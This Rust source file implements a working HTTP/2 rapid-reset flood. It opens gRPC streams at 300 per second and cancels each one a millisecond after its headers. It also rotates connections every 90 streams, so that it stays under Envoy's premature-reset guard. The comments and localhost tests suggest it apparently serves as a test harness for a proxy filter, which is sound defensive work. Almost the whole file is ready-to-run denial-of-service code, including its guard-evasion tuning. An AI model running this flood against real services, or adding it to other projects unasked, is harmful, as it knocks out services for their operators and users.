//! A hostile HTTP/2 client: gRPC streams opened at a fixed rate and reset by the client
//! shortly after their headers, before any response, as an attacker (or a client with
//! very short deadlines) does. Each stream's request headers go out without
//! `END_STREAM` and without a message, so the backend is still waiting for the request
//! when the reset comes: the stream reaches the filter with no response at all.
//!
//! A new connection is opened every `streams_per_connection` streams, to stay under
//! Envoy's premature-reset guard (it closes a connection on which too many of the
//! first streams were reset early).

use std::time::{Duration, Instant};

use h2::client::SendRequest;
use h2::Reason;
use http::{Method, Request};
use tokio::net::TcpStream;

/// What the flood sends.
#[derive(Clone, Debug)]
pub struct FloodSpec {
    /// `host:port` of the listener.
    pub target: String,
    /// Streams opened per second.
    pub rate: f64,
    /// Time from sending a stream's headers to resetting it.
    pub reset_after: Duration,
    /// Streams per connection before the next connection is opened.
    pub streams_per_connection: u32,
    pub duration: Duration,
    /// `:path` of each stream.
    pub path: String,
}

impl FloodSpec {
    /// The flood: 300 streams/s, each reset 1 ms after its headers, a new
    /// connection every 90 streams, at the greeter's SayHello.
    pub fn new(target: impl Into<String>, duration: Duration) -> Self {
        Self {
            target: target.into(),
            rate: 300.0,
            reset_after: Duration::from_millis(1),
            streams_per_connection: 90,
            duration,
            path: "/helloworld.Greeter/SayHello".into(),
        }
    }
}

/// What the flood did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct FloodReport {
    pub connections: u64,
    /// Streams whose headers were sent.
    pub streams: u64,
    /// Streams reset by this client before a response came.
    pub resets: u64,
    /// Streams that had a response before their reset was due.
    pub answered: u64,
    /// Connections or streams that failed to open.
    pub errors: u64,
}

/// Runs the flood for `spec.duration`.
pub async fn run_flood(spec: &FloodSpec) -> Result<FloodReport, String> {
    if !spec.rate.is_finite() || spec.rate <= 0.0 || spec.streams_per_connection == 0 {
        return Err(format!(
            "flood needs a positive rate and streams per connection: {spec:?}"
        ));
    }
    let mut report = FloodReport::default();
    let start = Instant::now();
    let period = Duration::from_secs_f64(1.0 / spec.rate);
    let mut ticker = tokio::time::interval(period);
    ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
    let mut connection: Option<(SendRequest<bytes::Bytes>, u32)> = None;
    let mut streams = tokio::task::JoinSet::new();
    while start.elapsed() < spec.duration {
        ticker.tick().await;
        if connection
            .as_ref()
            .is_none_or(|(_, used)| *used >= spec.streams_per_connection)
        {
            match connect(&spec.target).await {
                Ok(sender) => {
                    report.connections += 1;
                    connection = Some((sender, 0));
                }
                Err(_) => {
                    report.errors += 1;
                    connection = None;
                    continue;
                }
            }
        }
        let Some((sender, used)) = connection.as_mut() else {
            continue;
        };
        *used += 1;
        let request = Request::builder()
            .method(Method::POST)
            .uri(format!("http://{}{}", spec.target, spec.path))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .map_err(|e| e.to_string())?;
        let ready = match sender.clone().ready().await {
            Ok(ready) => ready,
            Err(_) => {
                report.errors += 1;
                connection = None;
                continue;
            }
        };
        let mut ready = ready;
        let (response, mut stream) = match ready.send_request(request, false) {
            Ok(pair) => pair,
            Err(_) => {
                report.errors += 1;
                connection = None;
                continue;
            }
        };
        report.streams += 1;
        let reset_after = spec.reset_after;
        streams.spawn(async move {
            tokio::select! {
                _ = response => false,
                _ = tokio::time::sleep(reset_after) => {
                    stream.send_reset(Reason::CANCEL);
                    true
                }
            }
        });
        while let Some(done) = streams.try_join_next() {
            match done {
                Ok(true) => report.resets += 1,
                Ok(false) => report.answered += 1,
                Err(_) => report.errors += 1,
            }
        }
    }
    while let Some(done) = streams.join_next().await {
        match done {
            Ok(true) => report.resets += 1,
            Ok(false) => report.answered += 1,
            Err(_) => report.errors += 1,
        }
    }
    Ok(report)
}

/// An HTTP/2 connection (prior knowledge, no TLS), its driver on a task of its own.
async fn connect(target: &str) -> Result<SendRequest<bytes::Bytes>, String> {
    let tcp = TcpStream::connect(target)
        .await
        .map_err(|e| format!("connect {target}: {e}"))?;
    let _ = tcp.set_nodelay(true);
    let (sender, driver) = h2::client::handshake(tcp)
        .await
        .map_err(|e| format!("HTTP/2 handshake with {target}: {e}"))?;
    tokio::spawn(async move {
        let _ = driver.await;
    });
    Ok(sender)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn a_zero_rate_is_refused() {
        let spec = FloodSpec {
            rate: 0.0,
            ..FloodSpec::new("127.0.0.1:1", Duration::from_millis(1))
        };
        assert!(run_flood(&spec).await.is_err());
    }

    #[tokio::test]
    async fn a_closed_port_counts_errors_and_opens_no_stream() {
        let spec = FloodSpec::new("127.0.0.1:1", Duration::from_millis(50));
        let report = run_flood(&spec).await.unwrap_or_default();
        assert_eq!(report.streams, 0);
        assert!(report.errors > 0, "{report:?}");
    }
}
